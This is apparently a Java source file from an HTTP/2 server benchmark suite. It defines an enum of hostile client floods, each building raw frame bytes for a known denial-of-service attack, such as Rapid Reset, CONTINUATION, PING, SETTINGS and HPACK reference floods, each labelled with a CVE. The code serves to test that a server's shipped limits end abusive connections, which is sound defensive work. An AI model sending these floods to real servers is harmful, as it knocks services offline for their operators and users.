package org.heliostat.benchmarks.hostile;

import static org.heliostat.benchmarks.hostile.Frames.joined;

import java.util.Arrays;
import java.util.Locale;
import java.util.function.Function;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import org.heliostat.benchmarks.load.server.Documents;

/**
 * What a bad client sends on each of its connections, as much as ends one with the limits that are shipped, and little more.
 * The constant's name in lower case with dashes is its name everywhere else.
 */
enum Flood {
    RAPID_RESET(
            "requests that are taken back at once (CVE-2023-44487)",
            path -> streams(300, n -> joined(Frames.get(n, path), Frames.frame(Frames.RST_STREAM, n, 8)))),
    MADE_RESET(
            "requests that the server is made to reset (CVE-2025-8671)",
            path -> streams(150, n -> joined(Frames.get(n, path), Frames.frame(Frames.WINDOW_UPDATE, n, 0)))),
    MALFORMED(
            "requests that are malformed",
            path -> streams(
                    150, n -> Frames.headers(n, joined(Frames.request("GET", path), Frames.block("te", "gzip"))))),
    CONTINUATION(
            "a field block without end (CVE-2026-33871)",
            path -> joined(
                    Frames.frame(Frames.HEADERS, 0, 1, Frames.request("GET", path)),
                    repeated(200, Frames.frame(Frames.CONTINUATION, 0, 1, new byte[0])))),
    PING("PING (CVE-2019-9512)", path -> repeated(10_100, Frames.frame(Frames.PING, 0, 0, new byte[8]))),
    SETTINGS("SETTINGS (CVE-2019-9515)", path -> repeated(150, Frames.settings())),
    EMPTY(
            "DATA without content (CVE-2019-9518)",
            path -> joined(
                    Frames.headers(1, "POST", path, false),
                    repeated(1_100, Frames.frame(Frames.DATA, 0, 1, new byte[0])))),
    PRIORITY("PRIORITY (CVE-2019-9513)", path -> repeated(3_100, Frames.frame(Frames.PRIORITY, 0, 1, new byte[5]))),
    REFERENCES("references to a long field (CVE-2026-49975)", Flood::references),
    TABLE(
            "a table of fields that is larger than allowed",
            path -> joined(
                    Frames.settings(Frames.HEADER_TABLE_SIZE, Integer.MAX_VALUE),
                    behindRequests(
                            path,
                            n -> Frames.headers(
                                    n,
                                    joined(
                                            new byte[] {0x3f, (byte) 0xff, (byte) 0xff, (byte) 0xff, 0x07},
                                            Frames.request("GET", path)))))),
    CRUMBS("requests with 1,000 crumbs of a cookie each (CVE-2026-49975)", path -> {
        byte[] block = joined(Frames.request("GET", path), repeated(1_000, Frames.block("cookie", "a=b")));
        return streams(20, n -> Frames.headers(n, block));
    }),
    LONG_FIELDS("requests with 64 KB of fields (CVE-2024-24549)", path -> {
        byte[] first = joined(Frames.request("GET", path), Frames.block("x", "y".repeat(15_000)));
        byte[] more = Frames.block("z", "y".repeat(16_000));
        return streams(
                20,
                n -> joined(
                        Frames.frame(Frames.HEADERS, Frames.END_STREAM, n, first),
                        repeated(2, Frames.frame(Frames.CONTINUATION, 0, n, more)),
                        Frames.frame(Frames.CONTINUATION, Frames.END_HEADERS, n, more)));
    }),
    LIST_SIZE(
            "limits for fields of answers that are tiny, huge, and change (CVE-2025-1948)",
            path -> joined(
                    Frames.get(1, path),
                    repeated(
                            75,
                            joined(
                                    Frames.settings(Frames.MAX_HEADER_LIST_SIZE, 0),
                                    Frames.settings(Frames.MAX_HEADER_LIST_SIZE, -1))))),
    CONNECT(
            "extended CONNECT for a protocol that nobody speaks, and requests without a host (CVE-2026-65637)",
            path -> streams(
                    150,
                    n -> Frames.headers(
                            n,
                            n % 4 == 1
                                    ? Frames.block(":method", "GET", ":scheme", "http", ":path", path)
                                    : joined(Frames.request("CONNECT", path), Frames.block(":protocol", "nothing"))))),
    FRAME_SIZE(
            "a frame whose size its kind forbids (CVE-2026-116830)",
            path -> behindRequests(path, n -> Frames.frame(Frames.RST_STREAM, 0, n - 2, new byte[5]))),
    ZERO_WINDOW(
            "100 answers for which there is no window (CVE-2019-9517)",
            path -> joined(Frames.settings(Frames.INITIAL_WINDOW_SIZE, 0), streams(100, n -> Frames.get(n, path)))),
    FULL_SOCKET(
            "20 answers of 250 KB that are not read (CVE-2024-22201)",
            path -> joined(
                    Frames.settings(Frames.INITIAL_WINDOW_SIZE, Integer.MAX_VALUE),
                    Frames.frame(Frames.WINDOW_UPDATE, 0, 100_000_000),
                    streams(20, n -> Frames.get(n, Documents.LARGE))));

    private static final int REQUESTS_BEFORE = 30;

    private final String what;
    private final Function<String, byte[]> bytes;

    Flood(String what, Function<String, byte[]> bytes) {
        this.what = what;
        this.bytes = bytes;
    }

    String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    String what() {
        return what;
    }

    /** @param path of the requests in it */
    byte[] bytes(String path) {
        return joined(Frames.preface(), bytes.apply(path));
    }

    static Flood of(String label) {
        return Arrays.stream(values())
                .filter(each -> each.label().equals(label.strip().toLowerCase(Locale.ROOT)))
                .findFirst()
                .orElseThrow(() -> new IllegalArgumentException("flood: " + label + " (expected: " + labels() + ")"));
    }

    static String labels() {
        return Arrays.stream(values()).map(Flood::label).collect(Collectors.joining(", "));
    }

    /** Each request puts a field of 4,000 bytes into the table, and refers to it 10,000 times. */
    private static byte[] references(String path) {
        byte[] field = Frames.block("x", "y".repeat(4_000));
        field[0] = 0x40;
        byte[] references = new byte[10_000];
        Arrays.fill(references, (byte) 0xbe);
        byte[] block = joined(Frames.request("GET", path), field, references);
        return streams(20, n -> Frames.headers(n, block));
    }

    /** @param frame of the stream after those of the requests */
    private static byte[] behindRequests(String path, IntFunction<byte[]> frame) {
        return joined(streams(REQUESTS_BEFORE, n -> Frames.get(n, path)), frame.apply(2 * REQUESTS_BEFORE + 1));
    }

    private static byte[] streams(int count, IntFunction<byte[]> ofStream) {
        byte[][] all = new byte[count][];
        for (int i = 0; i < count; i++) {
            all[i] = ofStream.apply(2 * i + 1);
        }
        return joined(all);
    }

    private static byte[] repeated(int count, byte[] frame) {
        byte[][] all = new byte[count][];
        Arrays.fill(all, frame);
        return joined(all);
    }
}
